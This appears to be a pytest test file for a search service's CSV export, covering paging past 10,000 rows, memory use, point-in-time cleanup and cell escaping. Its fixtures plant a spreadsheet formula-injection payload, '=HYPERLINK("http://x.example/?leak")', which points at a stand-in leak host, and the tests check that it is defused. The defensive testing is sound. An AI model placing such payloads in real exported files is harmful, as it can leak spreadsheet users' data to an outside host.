"""The CSV export: more than 10,000 rows through the API (point in time + search_after), each
document once, memory flat in the number of rows, the point in time always closed; and the pure
row building."""

import csv
import gc
import io
import threading
import time
import tracemalloc

import httpx
import pytest
import uvicorn
from fastapi.testclient import TestClient
from opensearchpy.exceptions import ConnectionError as OSConnectionError

from clew.search_client import make_client
from search.api import create_app
from search.errors import BackendError
from search.export import COLUMNS, cell, csv_export, csv_text, row
from search.request import SearchRequest
from search.settings import SearchSettings
from tests.scratch import scratch
from tests.search.api.callers import all_cases, headers
from tests.search.api.apitools import (
    FakeEmbedder,
    add_case,
    case_indexes,
    document,
    index_documents,
)

BIG, OTHER = "OP-BIG", "OP-OTHER"
ROWS = 10_050
HEADER = "id,case_id,kind,title,path,date,sender\r\n"
SPECIAL = {7, 5000, 10_001}  # documents titled "=HYPERLINK(...)": a formula, to be defused


@pytest.fixture(scope="module")
def big(servers):
    """OP-BIG with 10,050 small documents and OP-OTHER with 30, written directly (no models)."""
    with scratch(servers) as s:
        client = make_client(s, timeout=120)
        for case, count in ((BIG, ROWS), (OTHER, 30)):
            docs_alias, _ = case_indexes(client, s, case)
            special = SPECIAL if case == BIG else set()
            docs = (document(case, n, title='=HYPERLINK("http://x.example/?leak")' if n in special else f"Document {n}")
                    for n in range(count))
            assert index_documents(client, docs_alias, docs) == count
            add_case(s, case)
        yield s, client


@pytest.fixture(scope="module")
def api(big):
    s, _ = big
    with TestClient(create_app(s, search_settings=SearchSettings(export_batch=1000), embedder=FakeEmbedder()),
                    headers=headers(s, all_cases(s))) as client:
        yield client


class PitSpy:
    """Records the points in time an OpenSearch client opens and closes."""

    def __init__(self, client, monkeypatch) -> None:
        self.opened: list[str] = []
        self.closed: list[str] = []
        self.pages = 0
        create, delete, search = client.create_pit, client.delete_pit, client.search

        def create_pit(*a, **kw):
            pit = create(*a, **kw)
            self.opened.append(pit["pit_id"])
            return pit

        def delete_pit(*a, body, **kw):
            self.closed += body["pit_id"]
            return delete(*a, body=body, **kw)

        def counted(*a, **kw):
            self.pages += 1
            return search(*a, **kw)

        monkeypatch.setattr(client, "search", counted)
        monkeypatch.setattr(client, "create_pit", create_pit)
        monkeypatch.setattr(client, "delete_pit", delete_pit)
        self.client = client

    def all_closed(self) -> bool:
        live = {p["pit_id"] for p in self.client.get_all_pits().get("pits", [])}
        return bool(self.opened) and set(self.opened) == set(self.closed) and not live & set(self.opened)


def parse(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_api_export_more_than_10000_rows_each_once(api):
    resp = api.get("/api/v1/export.csv", params={"case": BIG})
    assert resp.status_code == 200, resp.text[:300]
    rows = parse(resp.text)
    assert len(rows) == ROWS > 10_000
    ids = [r["id"] for r in rows]
    assert len(set(ids)) == ROWS and ids == sorted(ids)
    assert list(rows[0]) == list(COLUMNS)
    assert {r["case_id"] for r in rows} == {BIG}
    formulas = [r["title"] for r in rows if "HYPERLINK" in r["title"]]
    assert len(formulas) == len(SPECIAL) and all(t.startswith("'=") for t in formulas)
    senders = [r["sender"] for r in rows if r["sender"]]
    assert len(senders) == len(range(0, ROWS, 3)) and all(s.endswith("@example.org") for s in senders)


def test_api_export_every_allowed_case_and_the_query(api):
    assert len(parse(api.get("/api/v1/export.csv").text)) == ROWS + 30
    rows = parse(api.get("/api/v1/export.csv", params={"q": "title:hyperlink OR type:email", "case": OTHER}).text)
    assert len(rows) == len(range(0, 30, 3)) and {r["kind"] for r in rows} == {"email"}
    assert api.get("/api/v1/export.csv", params={"q": "nothingmatchesthis"}).text == HEADER
    for route in ("/api/v1/export.csv", "/api/v1/search"):   # found by the API fuzz test: it was a 500
        resp = api.get(route, params={"date_from": "2000-01-02", "date_to": "2000-01-01"})
        assert resp.status_code in (400, 422) and "swap them" in resp.json()["error"]["message"], resp.text


def test_api_export_streams_in_chunks(api):
    with api.stream("GET", "/api/v1/export.csv", params={"case": BIG}) as resp:
        assert resp.status_code == 200
        sizes = [len(chunk) for chunk in resp.iter_raw()]
    assert len(sizes) > 5  # not one body built in memory


def test_api_export_memory_is_flat_in_the_number_of_rows(big, monkeypatch):
    s, client = big
    req = SearchRequest(q="", mode="keyword", cases=(BIG,), markings=("OFFICIAL",))
    list(csv_export(client, s.index_prefix, req, batch=500))  # warm the connection pool and caches
    gc.collect()
    marks: dict[str, tuple[int, int]] = {}
    tracemalloc.start()
    try:
        rows = 0
        for chunk in csv_export(client, s.index_prefix, req, batch=500):
            rows += chunk.count("\r\n")
            del chunk
            if rows >= 5000 and "half" not in marks:
                marks["half"] = tracemalloc.get_traced_memory()
                tracemalloc.reset_peak()
        marks["end"] = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert rows == ROWS + 1
    (half_now, half_peak), (end_now, end_peak) = marks["half"], marks["end"]
    assert end_now - half_now < 256 * 1024, marks  # nothing accumulates per row
    assert end_peak < half_peak * 1.25 + 512 * 1024, marks  # the second 5,000 rows cost no more
    assert end_peak < 16 * 1024 * 1024, marks


def test_api_export_closes_its_point_in_time(big, monkeypatch):
    s, client = big
    req = SearchRequest(q="", mode="keyword", cases=(BIG,), markings=("OFFICIAL",))
    spy = PitSpy(client, monkeypatch)
    assert sum(c.count("\r\n") for c in csv_export(client, s.index_prefix, req, batch=2000)) == ROWS + 1
    assert len(spy.opened) == 1 and spy.all_closed()
    chunks = csv_export(client, s.index_prefix, req, batch=2000)
    next(chunks)
    chunks.close()  # the consumer stops early
    assert len(spy.opened) == 2 and spy.all_closed()


def test_api_export_backend_failure_mid_way_closes_the_point_in_time(big, monkeypatch):
    s, client = big
    spy = PitSpy(client, monkeypatch)
    search, calls = client.search, []

    def failing(*a, **kw):
        calls.append(1)
        if len(calls) == 3:
            raise OSConnectionError("N/A", "connection reset", None)
        return search(*a, **kw)

    monkeypatch.setattr(client, "search", failing)
    req = SearchRequest(q="", mode="keyword", cases=(BIG,), markings=("OFFICIAL",))
    chunks = csv_export(client, s.index_prefix, req, batch=1000)
    next(chunks), next(chunks)
    with pytest.raises(BackendError):
        next(chunks)
    assert spy.all_closed()


def test_api_export_client_that_disconnects_releases_the_point_in_time(big, monkeypatch):
    """Over real HTTP: read the first chunk, hang up; the server closes the point in time."""
    s, _ = big
    app = create_app(s, search_settings=SearchSettings(export_batch=200), embedder=FakeEmbedder())
    spy = PitSpy(app.state.services.client, monkeypatch)
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=0, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        while not server.started:
            time.sleep(0.05)
        port = server.servers[0].sockets[0].getsockname()[1]
        with httpx.stream("GET", f"http://127.0.0.1:{port}/api/v1/export.csv", params={"case": BIG},
                          headers=headers(s, (BIG,)), timeout=60) as resp:
            assert resp.status_code == 200
            next(resp.iter_raw())
        deadline = time.monotonic() + 30
        while not spy.closed and time.monotonic() < deadline:
            time.sleep(0.1)
        assert len(spy.opened) == 1 and spy.all_closed()
        assert spy.pages < ROWS // 200 // 2  # it stopped, rather than running to the end
    finally:
        server.should_exit = True
        thread.join(timeout=30)


def test_api_export_no_cases_or_no_indexes(settings):
    app = create_app(settings, embedder=FakeEmbedder())
    with TestClient(app, headers=headers(settings, ())) as api:
        assert api.get("/api/v1/export.csv").text == HEADER
        add_case(settings, "OP-NEW")  # a case with no indexes yet: no read alias
        assert api.get("/api/v1/export.csv").text == HEADER


@pytest.mark.parametrize(("value", "expected"), [
    (None, ""), ("plain", "plain"), ("=1+1", "'=1+1"), ("+44 7700", "'+44 7700"), ("-2", "'-2"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), (["a@x.org", "=b"], "a@x.org; '=b"), (3, "3"),
    ("a = b", "a = b"),
])
def test_api_export_cell(value, expected):
    assert cell(value) == expected


def test_api_export_row_and_csv_text():
    src = {"id": "d1", "case_id": "OP-1", "kind": "email", "title": 'Re: "plan"\nline two',
           "source": {"path": "a/b.eml"}, "date": "2024-03-05T10:00:00Z", "email": {"sender": "x@y.org"}}
    assert row(src) == ("d1", "OP-1", "email", 'Re: "plan"\nline two', "a/b.eml", "2024-03-05T10:00:00Z", "x@y.org")
    assert row({}) == ("",) * len(COLUMNS)
    text = csv_text([COLUMNS, row(src)])
    assert text.endswith("\r\n")
    assert list(csv.reader(io.StringIO(text))) == [list(COLUMNS), list(row(src))]
